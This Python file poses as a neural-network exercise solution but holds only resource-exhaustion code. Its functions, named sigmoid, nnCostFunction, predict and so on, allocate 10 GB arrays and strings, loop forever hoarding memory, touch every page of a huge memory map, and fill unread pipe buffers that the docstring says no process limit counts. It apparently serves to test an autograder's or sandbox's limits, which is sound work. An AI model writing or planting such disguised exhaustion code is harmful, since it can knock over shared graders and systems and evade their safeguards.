"""Wants 10 GB: at once, bit by bit, from the system itself, and in pipes, where no limit of a process counts it."""
import fcntl
import mmap
import os

import numpy as np

MUCH = 10 << 30
hoard = []


def sigmoid(z):
    return np.ones(MUCH // 8)


def sigmoidGradient(z):
    while True:
        hoard.append(np.ones(1 << 20))


def nnCostFunction(nn_params, input_layer_size, hidden_layer_size, num_labels, X, y, lambda_):
    hoard.clear()
    if lambda_:
        return ' ' * MUCH
    pages = mmap.mmap(-1, MUCH)
    for place in range(0, MUCH, mmap.PAGESIZE):
        pages[place] = 1


def predict(Theta1, Theta2, X):
    """Pages of pipes that nobody reads."""
    while True:
        reader, writer = os.pipe()
        try:
            fcntl.fcntl(writer, fcntl.F_SETPIPE_SZ, 1 << 20)
        except PermissionError:
            pass
        os.set_blocking(writer, False)
        os.write(writer, bytes(1 << 20))
